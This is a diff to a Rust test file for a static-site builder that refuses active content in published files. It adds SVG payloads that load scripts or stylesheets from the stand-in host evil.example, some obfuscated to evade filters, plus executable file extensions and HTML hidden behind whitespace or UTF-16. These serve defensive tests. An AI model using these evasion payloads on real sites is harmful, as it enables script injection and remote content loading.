@@ -1,13 +1,13 @@
 //! Files that are published as they are: pictures that draw and nothing else, no pages, no programs.
 
 use super::{published, refused, site, write};
-use crate::support::built::{DAY, build};
-use bantin::pipeline::Drafts;
+use crate::support::built::{DAY, build, options};
+use bantin::pipeline::{self, Drafts};
 
 const SVG: &str = "xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"";
 
 /// Ways to run or to fetch something from a picture; all of them work in some browser that opens the file.
-const ACTIVE: [&str; 24] = [
+const ACTIVE: [&str; 28] = [
     "<script>alert(1)</script>",
     "<script href=\"data:text/javascript,alert(1)\"/>",
     "<script xlink:href=\"//evil.example/x.js\"/>",
@@ -27,6 +27,10 @@ const ACTIVE: [&str; 24] = [
     "<feImage href=\"//evil.example/dem.png\"/>",
     "<style>@import url(//evil.example/x.css);</style>",
     "<style><![CDATA[a{fill:url(//evil.example/x)}]]></style>",
+    "<style><title>b</title>@import \"//evil.example/x.css\";</style>",
+    "<style>@imp<title>b</title>ort \"//evil.example/x.css\";</style>",
+    "<rect width=\"9\" height=\"9\" mask=\"image-set('//evil.example/x' 1x)\"/>",
+    "<rect width=\"9\" height=\"9\" fill=\"u\\72l(//evil.example/x)\"/>",
     "<path style=\"fill:url(&#104;ttps://evil.example/x)\"/>",
     "<path fill=\"url('https://evil.example/x#a')\"/>",
     "<handler xmlns=\"http://www.w3.org/2001/xml-events\"/><video href=\"//evil.example\"/>",
@@ -110,10 +114,57 @@ fn pages_and_programs_are_refused_whatever_they_are_called() {
         ("a.aspx", "x"),
         ("a.jsp", "x"),
         ("a.shtml", "x"),
+        ("a.pht", "x"),
+        ("a.php8", "x"),
+        ("a.phps", "x"),
+        ("a.cfm", "x"),
+        ("a.asmx", "x"),
+        ("a.cshtml", "x"),
+        ("a.pl", "x"),
+        ("a.py", "x"),
+        ("a.xslt", "x"),
+        ("a.html.en", "chữ <script>alert(1)</script>"),
+        ("a.html.zzz", "chữ <script>alert(1)</script>"),
+        ("index.html.gz", "x"),
     ] {
         let said = refused(&[(&format!("content/files/{name}"), text)]);
         assert!(said.contains("active-file") || said.contains("address-taken"), "{name}: {said}");
     }
+}
+
+/// Names that no list of browsers' types holds, but those of some servers do.
+const GUESSED: [&str; 5] = ["a.rif", "a.mathml", "a.xul", "a.svg.vi", "ghi-chu"];
+const PAGE: &str = "<html xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></html>";
+
+#[test]
+fn a_page_behind_any_number_of_blanks_is_refused() {
+    for blanks in ["\n".repeat(1_500), " ".repeat(2_047), "\r\n\t".repeat(70_000)] {
+        for mark in ["", "\u{FEFF}"] {
+            let page = format!("{mark}{blanks}{PAGE}");
+            let in_utf16: Vec<u8> = page.encode_utf16().flat_map(u16::to_be_bytes).collect();
+            for bytes in [page.as_bytes(), &in_utf16] {
+                let root = site(&[]);
+                for name in GUESSED {
+                    write(root.path(), &format!("content/files/{name}"), bytes);
+                }
+                let said = build(root.path(), DAY, Drafts::LeftOut).expect_err("refused");
+                // A file with the mark of UTF-16 is told just that.
+                let rules = ["active-file: ", "utf16: "].map(|rule| said.matches(rule).count());
+                assert_eq!(rules.iter().sum::<usize>(), GUESSED.len(), "{said}");
+            }
+        }
+    }
+}
+
+#[test]
+fn a_file_that_begins_with_more_blanks_than_a_text_may_have_is_refused() {
+    let outcome = |name: &str, blank: u8| {
+        let root = site(&[]);
+        write(root.path(), name, &[&vec![blank; 17 * 1024 * 1024], PAGE.as_bytes()].concat());
+        pipeline::build(&options(root.path(), DAY, Drafts::LeftOut))
+    };
+    assert!(outcome("content/files/a.rif", b' ').is_err());
+    assert!(outcome("content/files/dia.iso", 0).is_ok(), "blocks of a disk that hold nothing");
 }
 
 #[test]
